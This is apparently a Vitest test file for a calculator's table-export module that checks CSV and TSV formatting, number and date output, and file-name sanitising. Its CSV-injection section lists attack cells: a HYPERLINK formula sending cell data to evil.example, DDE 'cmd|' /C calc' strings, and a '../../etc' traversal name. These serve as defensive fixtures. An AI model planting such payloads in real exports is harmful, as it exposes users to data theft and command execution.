import { describe, expect, it } from 'vitest';
import {
  BOM,
  csvFileName,
  type ExportTable,
  rawText,
  tableToCsv,
  tableToTsv,
} from './table-export';

describe('rawText', () => {
  it('writes numbers as JavaScript does, unformatted', () => {
    expect(rawText(0.1 + 0.2)).toBe('0.30000000000000004');
    expect(rawText(-0)).toBe('0');
    expect(rawText(1e21)).toBe('1e+21');
    expect(rawText(1234567.5)).toBe('1234567.5');
    expect(rawText(NaN)).toBe('NaN');
    expect(rawText(Infinity)).toBe('Infinity');
    expect(rawText(-Infinity)).toBe('-Infinity');
  });

  it('writes the engine’s dates as their ISO day', () => {
    expect(rawText('2024-01-05T00:00:00.000Z')).toBe('2024-01-05');
    expect(rawText('2024-01-05T13:45:00.000Z')).toBe('2024-01-05');
    expect(rawText('+275760-09-13T00:00:00.000Z')).toBe('+275760-09-13');
    expect(rawText(new Date(Date.UTC(1999, 11, 31)))).toBe('1999-12-31');
    expect(rawText(new Date(NaN))).toBe('');
  });

  it('leaves text, booleans and date-like text that is not an instant as they are', () => {
    expect(rawText('2024-01-05')).toBe('2024-01-05');
    expect(rawText('café')).toBe('café');
    expect(rawText(true)).toBe('true');
    expect(rawText(false)).toBe('false');
  });

  it('writes null and undefined as nothing', () => {
    expect(rawText(null)).toBe('');
    expect(rawText(undefined)).toBe('');
  });
});

describe('tableToCsv', () => {
  it('starts with a BOM and ends every record with CRLF', () => {
    const csv = tableToCsv({ columns: ['a', 'b'], rows: [{ a: 1, b: 2 }] });
    expect(csv).toBe(`${BOM}a,b\r\n1,2\r\n`);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
  });

  it('quotes fields with commas, quotes and line breaks, doubling the quotes', () => {
    const csv = tableToCsv({
      columns: ['name, full', 'say "hi"'],
      rows: [
        { 'name, full': 'line1\nline2', 'say "hi"': 'a"b' },
        { 'name, full': 'cr\rhere', 'say "hi"': 'plain' },
      ],
    });
    expect(csv).toBe(
      `${BOM}"name, full","say ""hi"""\r\n"line1\nline2","a""b"\r\n"cr\rhere",plain\r\n`,
    );
  });

  it('writes raw numbers, dates, booleans and empty cells', () => {
    const csv = tableToCsv({
      columns: ['n', 'd', 'b', 'e'],
      rows: [{ n: 0.1 + 0.2, d: '2026-11-26T00:00:00.000Z', b: true, e: null }, { n: 1e21 }],
    });
    expect(csv).toBe(`${BOM}n,d,b,e\r\n0.30000000000000004,2026-11-26,true,\r\n1e+21,,,\r\n`);
  });

  it('writes the engine’s rounded cells where a column rounds, raw values elsewhere', () => {
    // As a result with a "$, 2 decimals, half to even to 0.05" column `n` carries it.
    const table: ExportTable = {
      columns: ['n', 'p', 'm'],
      rows: [
        { n: 2.6250000000000004, p: 0.145, m: 0.1 + 0.2 },
        { n: -0.001, p: 1, m: 3 },
        { n: 'text', p: null, m: 4 },
      ],
      rounded: [{ n: '2.65', p: '0.15' }, { n: '0.00', p: '1' }, {}],
    };
    expect(tableToCsv(table)).toBe(
      `${BOM}n,p,m\r\n2.65,0.15,0.30000000000000004\r\n0.00,1,3\r\ntext,,4\r\n`,
    );
    expect(tableToTsv(table)).toBe(
      'n\tp\tm\n2.65\t0.15\t0.30000000000000004\n0.00\t1\t3\ntext\t\t4',
    );
  });

  it('gives a header row alone for an empty table', () => {
    expect(tableToCsv({ columns: ['Year', 'Balance'], rows: [] })).toBe(`${BOM}Year,Balance\r\n`);
  });

  it('keeps Cyrillic as it is (UTF-8 when encoded)', () => {
    const csv = tableToCsv({ columns: ['Месяц', 'Сумма'], rows: [{ Месяц: 'Январь', Сумма: 10 }] });
    expect(csv).toBe(`${BOM}Месяц,Сумма\r\nЯнварь,10\r\n`);
    const bytes = new TextEncoder().encode(csv);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });
});

describe('tableToTsv', () => {
  it('separates by tabs, rows by newlines, with a header row', () => {
    expect(tableToTsv({ columns: ['a', 'b'], rows: [{ a: 1.5, b: 'x' }] })).toBe('a\tb\n1.5\tx');
  });

  it('turns tabs and line breaks inside values into spaces, without quoting', () => {
    expect(
      tableToTsv({ columns: ['a\tb'], rows: [{ 'a\tb': 'x\ty\r\nz\nw' }, { 'a\tb': 'say "hi"' }] }),
    ).toBe('a b\nx y z w\nsay "hi"');
  });

  it('gives the header row alone for an empty table', () => {
    expect(tableToTsv({ columns: ['Год'], rows: [] })).toBe('Год');
  });
});

describe('formula cells (CSV injection)', () => {
  // OWASP's advice: a text cell a spreadsheet would read as a formula starts with `'`.
  const attacks: [string, string][] = [
    ['=', '=HYPERLINK("https://evil.example/?"&A1,"Click")'],
    ['+', "+1+cmd|' /C calc'!A0"],
    ['-', "-2+3+cmd|' /C calc'!A0"],
    ['@', "@SUM(1+1)*cmd|' /C calc'!A0"],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
  ];

  for (const [name, text] of attacks) {
    it(`puts ' before a text cell starting with ${name}, in CSV and in Copy`, () => {
      const table = { columns: ['Note'], rows: [{ Note: text }] };
      const csv = tableToCsv(table);
      const tsv = tableToTsv(table);
      const csvCell = csv.slice(BOM.length).split('\r\n')[1];
      const tsvCell = tsv.split('\n')[1];
      // Quoted or not, the cell's text begins with the quote mark.
      expect(csvCell.replace(/^"/, '')).toMatch(/^'/);
      expect(csvCell.replace(/^"/, '').replace(/"$/, '').replace(/""/g, '"')).toBe(`'${text}`);
      expect(tsvCell).toBe(`'${text}`.replace(/[\t\r\n]/g, ' '));
    });
  }

  it('neutralises a column name too', () => {
    const table = { columns: ['=1+1', 'ok'], rows: [] };
    expect(tableToCsv(table)).toBe(`${BOM}'=1+1,ok\r\n`);
    expect(tableToTsv(table)).toBe("'=1+1\tok");
  });

  it('leaves numbers alone, negative ones included', () => {
    const table = { columns: ['n'], rows: [{ n: -5 }, { n: -0.25 }, { n: -1e21 }] };
    expect(tableToCsv(table)).toBe(`${BOM}n\r\n-5\r\n-0.25\r\n-1e+21\r\n`);
    expect(tableToTsv(table)).toBe('n\n-5\n-0.25\n-1e+21');
  });

  it('leaves dates, booleans and text starting otherwise alone', () => {
    const table = {
      columns: ['d', 'b', 't', 'm'],
      rows: [{ d: '+275760-09-13T00:00:00.000Z', b: false, t: 'a=b', m: '−5' }],
    };
    expect(tableToCsv(table)).toBe(`${BOM}d,b,t,m\r\n+275760-09-13,false,a=b,−5\r\n`);
    expect(tableToTsv(table)).toBe('d\tb\tt\tm\n+275760-09-13\tfalse\ta=b\t−5');
  });
});

describe('csvFileName', () => {
  it('joins the calculator’s and the output’s names in safe characters', () => {
    expect(csvFileName('Loan calculator', 'Schedule / by month')).toBe(
      'Loan-calculator-Schedule-by-month.csv',
    );
    expect(csvFileName('Кредит: 2026', 'График')).toBe('Кредит-2026-График.csv');
    expect(csvFileName('../../etc', '')).toBe('etc.csv');
    expect(csvFileName('', '')).toBe('table.csv');
  });
});
